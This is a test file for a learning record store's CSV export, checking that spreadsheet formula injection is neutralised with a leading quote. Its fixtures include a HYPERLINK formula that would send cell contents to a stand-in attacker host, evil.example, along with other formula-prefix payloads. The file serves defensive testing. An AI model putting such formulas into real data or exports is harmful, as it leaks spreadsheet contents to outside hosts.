// The console's CSV export and `npm run lrs -- export --csv` share src/shared/statement-csv.mjs: same columns,
// and text a spreadsheet would run as a formula is neutralised the OWASP way (leading ').
import { beforeAll, describe, expect, it } from "vitest";
import { csvCell, csvRow } from "../../src/shared/csv.mjs";
import { STATEMENT_CSV_COLUMNS } from "../../src/shared/statement-csv.mjs";
import { xapi } from "../helpers";
import { Browser } from "./console-helpers";

const ACTIVITY = "http://example.com/csv-injection";
const browser = new Browser();

/** Splits RFC 4180 text into records of fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") record.push(field), (field = "");
    else if (ch === "\r" && text[i + 1] === "\n") record.push(field), records.push(record), (record = []), (field = ""), i++;
    else field += ch;
  }
  return records;
}

describe("csv cells", () => {
  it("neutralises = + - @ TAB CR at the start, also after leading whitespace, and full-width forms", () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
      ["+1+2", `"'+1+2"`],
      ["-2+3", `"'-2+3"`],
      ["@SUM(A1)", `"'@SUM(A1)"`],
      ["\tcmd", `"'\tcmd"`],
      ["\rcmd", `"'\rcmd"`],
      ["  =1+1", `"'  =1+1"`],
      ["\u00a0@x", `"'\u00a0@x"`],
      ["\uFF1D1+1", `"'\uFF1D1+1"`],
      ["Ana, the learner", `"Ana, the learner"`],
      ["a \"quote\"\nand a line", `"a ""quote""\nand a line"`],
      ["mailto:a=b@example.com", `"mailto:a=b@example.com"`],
      ["", `""`],
    ];
    for (const [value, cell] of cases) expect(csvCell(value)).toBe(cell);
  });

  it("leaves our numbers and booleans bare, and absent values empty", () => {
    expect(csvRow([-0.5, true, false, undefined, null, 3])).toBe("-0.5,true,false,,,3\r\n");
  });
});

describe("console CSV export", () => {
  beforeAll(async () => {
    const response = await xapi("/statements", {
      method: "POST",
      json: [
        {
          actor: { objectType: "Agent", name: '=HYPERLINK("http://evil.example/?"&A1,"click")', mbox: "mailto:mallory@example.com" },
          verb: { id: "http://adlnet.gov/expapi/verbs/completed" },
          object: { objectType: "Activity", id: ACTIVITY },
          result: { score: { scaled: -0.25 }, success: false, duration: "PT1M" },
        },
      ],
    });
    expect(response.status).toBe(200);
    expect((await browser.signInAdmin()).status).toBe(303);
  });

  it("has the shared columns and neutralises a formula in actor_name", async () => {
    const csv = await browser.get(`/console/s/default/statements/export?format=csv&activity=${encodeURIComponent(ACTIVITY)}`);
    expect(csv.status).toBe(200);
    const [header, row, ...rest] = parseCsv(csv.html);
    expect(rest).toEqual([]);
    expect(header).toEqual([...STATEMENT_CSV_COLUMNS]);
    const cell = (name: string) => row![STATEMENT_CSV_COLUMNS.indexOf(name)];
    expect(cell("actor_name")).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(cell("actor")).toBe("mailto:mallory@example.com");
    expect(cell("object")).toBe(ACTIVITY);
    expect(cell("result_score_scaled")).toBe("-0.25");
    expect(cell("result_success")).toBe("false");
    expect(JSON.parse(cell("statement")!).actor.name).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    // No text cell of the export starts a formula (numbers such as -0.25 are numbers).
    const formulas = parseCsv(csv.html).flat().filter((c) => /^\s*[=+\-@\t\r]/.test(c) && Number.isNaN(Number(c)));
    expect(formulas).toEqual([]);
  });
});
